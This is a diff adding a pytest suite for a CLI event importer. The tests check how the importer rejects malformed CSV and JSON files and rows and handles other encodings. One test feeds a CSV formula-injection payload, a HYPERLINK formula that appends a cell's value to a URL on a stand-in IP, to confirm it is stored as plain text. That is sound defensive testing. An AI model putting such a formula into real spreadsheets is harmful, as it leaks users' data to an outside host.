@@ -1,0 +1,136 @@
+"""Files that are not what a mapping says, or that mean harm: each is refused in a sentence, or a row of it is."""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import tracemalloc
+from pathlib import Path
+
+import pytest
+
+from laurels.cli.importing.mapping import mapper
+from laurels.cli.importing.mapping.loader import load_mapping, parse_mapping, text_of_kind
+from laurels.cli.terminal import CommandFailed
+from tests.cli.importing.mapping.imports import checked
+
+HEAD = "id,user,activity,time\n"
+ROW = "1,u-17,ran a program,2026-03-02 09:15:00\n"
+WITHIN = text_of_kind("github-events").replace('format = "ndjson"', 'format = "json"\nrows = "data.events"')
+LATIN = text_of_kind("table").replace('encoding = "utf-8"', 'encoding = "windows-1252"')
+WIDE = text_of_kind("table").replace('encoding = "utf-8"', 'encoding = "utf-16"')
+
+
+@pytest.mark.parametrize(
+    ("text", "content", "told"),
+    [
+        ("table", "user,activity,time\n", 'lacks the column "id", which eventId reads'),
+        (
+            "table",
+            "id,User,activity,when\n",
+            'lacks the column "user", which userId reads, unless "User" is meant; lacks',
+        ),
+        ("table", "id,user,activity,time,user\n", 'names the column "user" twice'),
+        ("table", HEAD.replace(",", ";"), 'The columns of its first line are "id;user;activity;time"'),
+        ("table", HEAD + '1,"' + "x" * 200_000 + '",a,b\n', "line 2: field larger than field limit"),
+        ("table", (HEAD + ROW.replace("u-17", "Jos\xe9")).encode("latin-1"), "is not UTF-8 text"),
+        ("table", (HEAD + ROW).encode("utf-16"), "is UTF-16 text; save it in UTF-8, or name what it is in the mapping"),
+        (WIDE, (HEAD + ROW).encode("utf-8"), "is not UTF-16 text"),
+        (
+            LATIN,
+            (HEAD + ROW).encode("utf-8-sig"),
+            "is UTF-8 text by its first bytes, and the mapping says windows-1252",
+        ),
+        ("table", b"PK\x03\x04 and so on", "is a spreadsheet or an archive"),
+        ("table", HEAD + '1,"u-17,a,b\n', "is not valid CSV at line"),
+        (WITHIN, '{"events": [], "data": {"event": []}}', "has no list under 'data.events'"),
+        (WITHIN, '{"data": {"events": {}}}', "has no list under 'data.events'"),
+        (WITHIN, '{"data": {"events": [{"id": "1"}', "array but ends before its last bracket"),
+        ("github-events", "-- MySQL dump\nINSERT INTO a VALUES (1);\n", "is an SQL dump"),
+    ],
+)
+async def test_a_file_that_is_none_is_refused_and_says_why(
+    tmp_path: Path, text: str, content: str | bytes, told: str
+) -> None:
+    given = load_mapping(text) if "\n" not in text else parse_mapping(text, "mine.toml")
+    file = tmp_path / "file"
+    file.write_bytes(content if isinstance(content, bytes) else content.encode())
+    with pytest.raises(CommandFailed, match=re.escape(told)) as refused:
+        await checked(file, given)
+    assert str(refused.value).startswith(f"{file}")
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ("1,u-17,ran a program\n", "Has 3 cells for 4 columns"),
+        ("1,u-17,ran a program,2026-03-02 09:15:00,x\n", "Has 1 cell beyond the last column"),
+        ("1,u\0-17,ran a program,2026-03-02 09:15:00\n", "userId: Must not contain control"),
+        ("1,,ran a program,2026-03-02 09:15:00\n", "userId: Is required, and the row says none."),
+        ("1," + "u" * 5_000 + ",ran a program,2026-03-02 09:15:00\n", "userId: Must have 1 to 100 characters."),
+        ("1,u-17,ran a program,2199-03-02 09:15:00\n", "timestamp: Lies more than 5 minutes in the future"),
+        ("1,u-17,ran a program,0001-01-01 00:00:00\n", "timestamp: Lies further back"),
+        ("1,u-17,,\n", 'eventType: The mapping has no event type for "". timestamp: Is required: "time" says nothing.'),
+    ],
+)
+async def test_a_row_that_is_none_is_rejected_and_the_others_are_not(tmp_path: Path, line: str, told: str) -> None:
+    file = tmp_path / "file"
+    file.write_text(HEAD + ROW + line + ROW.replace("1,", "2,", 1))
+    done = await checked(file, load_mapping("table"))
+    assert done.counts == (2, 0, 1, 0)
+    assert told in done.reasons[0]
+    assert done.reasons[0].startswith("1 (line 3): ")
+
+
+@pytest.mark.parametrize(("encoding", "text"), [("windows-1252", LATIN), ("utf-16", WIDE)])
+async def test_other_encodings_are_read_where_the_mapping_names_them(tmp_path: Path, encoding: str, text: str) -> None:
+    file = tmp_path / "file"
+    file.write_bytes((HEAD + ROW.replace("u-17", "Jos\xe9")).encode(encoding))
+    done = await checked(file, parse_mapping(text, "mine.toml"))
+    assert json.loads(done.tally.samples[0].event)["userId"] == "Jos\xe9"
+
+
+async def test_a_formula_stays_the_text_that_it_is(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'
+    file = tmp_path / "file"
+    with file.open("w", newline="") as table:
+        csv.writer(table).writerows([[*HEAD.strip().split(","), "language"], [*ROW.strip().split(","), formula]])
+    done = await checked(file, load_mapping("table"))
+    assert json.loads(done.tally.samples[0].event)["metadata"] == {"language": formula}
+
+
+async def test_a_column_of_free_text_is_not_counted_value_by_value(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(mapper, "DISTINCT", 10)
+    file = tmp_path / "file"
+    file.write_text(HEAD + "".join(f"{number},u-17,did {number},2026-03-02 09:15:00\n" for number in range(40)))
+    done = await checked(file, load_mapping("table"))
+    assert len(done.tally.unmapped) == 11
+    assert done.tally.unmapped[mapper.OTHERS] == 30
+
+
+async def test_what_stands_before_an_array_is_not_gathered(tmp_path: Path) -> None:
+    file = tmp_path / "file"
+    file.write_bytes(b'{"a": "' + b"x" * 16_000_000 + b'", "data": {"events": []}}')
+    tracemalloc.start()
+    try:
+        with pytest.raises(CommandFailed, match=r"has no list under .* in its first 2 MiB"):
+            await checked(file, parse_mapping(WITHIN, "mine.toml"))
+        assert tracemalloc.get_traced_memory()[1] < 12_000_000
+    finally:
+        tracemalloc.stop()
+
+
+async def test_a_line_without_an_end_is_rejected_and_counted(tmp_path: Path) -> None:
+    file = tmp_path / "file"
+    good = '{"id": "1", "type": "PushEvent", "actor": {"login": "u-17"}, "created_at": "2026-03-02T09:30:00Z"}\n'
+    file.write_text(good + '{"id": "' + "x" * 3_000_000 + '"}\n' + "no json\n" + "[1]\n" + good.replace('"1"', '"2"'))
+    done = await checked(file, load_mapping("github-events"))
+    assert (done.recorded, done.tally.rows) == (2, 5)
+    assert [reason.partition(": ")[2] for reason in done.reasons] == [
+        "Is longer than 1 MiB.",
+        "Is not valid JSON: a line holds one whole object and nothing else.",
+        "Must be an object, not a list.",
+    ]
